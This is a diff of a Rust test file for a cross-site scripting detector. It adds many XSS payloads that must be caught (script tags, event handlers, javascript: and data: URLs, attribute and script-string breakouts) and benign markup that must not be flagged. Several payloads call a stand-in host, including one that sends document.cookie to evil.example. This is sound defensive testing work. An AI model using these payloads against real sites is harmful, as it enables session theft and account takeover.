@@ -1,4 +1,6 @@
 //! Named cases for the XSS rules: attacks that must be found, markup and prose that must not.
+//! Cases are written from attack shapes (OWASP and PortSwigger cheat sheets), not copied from
+//! the corpus.
 
 use super::*;
 
@@ -12,8 +14,144 @@ fn benign(s: &str) {
     assert_eq!(detect(s.as_bytes()), None, "false positive: {s:?}");
 }
 
+#[track_caller]
+fn rule(s: &str) -> (Context, String) {
+    let d = detect(s.as_bytes()).unwrap_or_else(|| panic!("missed attack: {s:?}"));
+    (d.context, d.fingerprint_str().to_string())
+}
+
 #[test]
-fn placeholder() {
-    attack("<script>alert(1)</script>");
+fn script_and_active_content_tags() {
+    assert_eq!(
+        rule("<script>alert(1)</script>"),
+        (Context::Html, "script".into())
+    );
+    attack("<SCRIPT SRC=//evil.example/x.js></SCRIPT>");
+    attack("<script/random>alert(1)</script>");
+    attack("<iframe src=//evil.example>");
+    attack("<object data=x.swf>");
+    attack("<embed src=x.swf>");
+    attack("<base href=//evil.example/>");
+    attack("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>");
+    attack("<style>@import 'http://evil.example/x.css';</style>");
+    attack("<link rel=stylesheet href=//evil.example/x.css>");
+    attack("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">");
+}
+
+#[test]
+fn event_handlers_on_any_tag() {
+    assert_eq!(
+        rule("<img src=x onerror=alert(1)>"),
+        (Context::Html, "evt".into())
+    );
+    attack("<svg onload=alert(1)>");
+    attack("<svg/onload=alert(1)>");
+    attack("<math><maction actiontype=statusline onclick=alert(1)>x</maction></math>");
+    attack("<body onpageshow=alert(1)>");
+    attack("<details open ontoggle=alert(1)>");
+    attack("<custom-element onpointerover=alert(1)>hi</custom-element>");
+    attack("<img src=x onerror  =  alert(1)");
+    attack("<video><source onerror=\"alert(1)\">");
+    attack("<input autofocus onfocus=alert`1`>");
+    attack("<svg><animate attributeName=onbegin values=alert(1)>");
+}
+
+#[test]
+fn script_urls_in_attributes() {
+    assert_eq!(
+        rule("<a href=\"javascript:alert(1)\">x</a>"),
+        (Context::Html, "jsurl".into())
+    );
+    attack("<a href=\" JaVaScRiPt:alert(1)\">x</a>");
+    attack("<a href=\"jav&#x09;ascript:alert(1)\">x</a>");
+    attack("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">");
+    attack("<form action=javascript:alert(1)><input type=submit>");
+    attack("<button formaction=javascript:alert(1)>x</button>");
+    attack("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">");
+    attack("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>");
+    attack("<object data=\"data:image/svg+xml,<svg onload=alert(1)>\">");
+    attack("<a href=vbscript:msgbox(1)>x</a>");
+    attack("<div style=\"width: expression(alert(1))\">");
+    attack("<div style=\"background:url(javascript:alert(1))\">");
+    attack("<div style=\"-moz-binding:url(//evil.example/x.xml#x)\">");
+}
+
+#[test]
+fn attribute_breakouts() {
+    assert_eq!(
+        rule("\" onmouseover=\"alert(1)"),
+        (Context::Attribute, "evt".into())
+    );
+    attack("' onfocus='alert(1)' autofocus='");
+    attack("\"onmouseover=alert(1) x=\"");
+    attack("x\" style=\"x:expression(alert(1))");
+    attack("\" href=\"javascript:alert(1)");
+    attack("foo onmouseover=alert(1)");
+    attack("\"><img src=x onerror=alert(1)>");
+    attack("'><svg onload=alert(1)>");
+}
+
+#[test]
+fn script_context_breakouts() {
+    assert_eq!(rule("';alert(1)//"), (Context::Script, "jsstr".into()));
+    attack("\";alert(document.domain);//");
+    attack("'-alert(1)-'");
+    attack("\"+confirm(1)+\"");
+    attack("'});alert(1);//");
+    attack("\\';alert(1)//");
+    attack("';document.location='http://evil.example/?c='+document.cookie;//");
+    attack("${alert(1)}");
+    attack("javascript:alert(document.cookie)");
+    attack("  JavaScript:void(fetch('//evil.example'))");
+    attack("</script><script>alert(1)</script>");
+}
+
+#[test]
+fn benign_markup_and_prose() {
     benign("<b>bold</b>");
+    benign("<i>it</i>, <em>em</em>, <strong>strong</strong>, <br/>, <p>para</p>");
+    benign("<a href=\"/help/faq.html\">FAQ</a>");
+    benign("<a href=\"https://example.com/javascript/guide\">guide</a>");
+    benign("<img src=\"photo.jpg\" alt=\"Me & my dog\">");
+    benign("<span class=\"price\" data-id=\"42\">$5</span>");
+    benign("1 < 2 and 3 > 2");
+    benign("I <3 this product");
+    benign("a<b && b>c");
+    benign("<<< click here >>>");
+    benign("email me: <john@example.com>");
+    benign("O'Reilly's \"Learning JavaScript: the good parts\"");
+    benign("one=1&online=true&onion=3");
+    benign("turn on the lights; go online");
+    benign("He said \"hi\" - then left");
+    benign("it's 'quoted' + more");
+    benign("javascript tutorial for beginners");
+    benign("the alert() function shows a dialog");
+    benign("data:image/png;base64,iVBORw0KGgo=");
+    benign("```js\nconsole.log('hi')\n```");
+    benign("{\"html\":\"<p>Hello</p>\",\"ok\":true}");
+    benign("Use <code>onclick</code> handlers carefully");
+    benign("price < $10 > $5");
+}
+
+#[test]
+fn degenerate_inputs() {
+    benign("");
+    benign("<");
+    benign("<<<<<<<<<<<<<<<<");
+    benign("\"\"\"\"\"\"\"\"");
+    benign("<a");
+    benign("<a b=");
+    benign("<a b='");
+    benign("&#");
+    benign("&#x");
+}
+
+#[test]
+fn many_open_tags_stay_linear() {
+    // 200 KB of `<a x='` would be quadratic without the per-tag cap.
+    let s = "<a x='".repeat(40_000);
+    let t = std::time::Instant::now();
+    let _ = detect(s.as_bytes());
+    // Generous bound: this is a complexity guard, not a benchmark.
+    assert!(t.elapsed() < std::time::Duration::from_secs(5));
 }
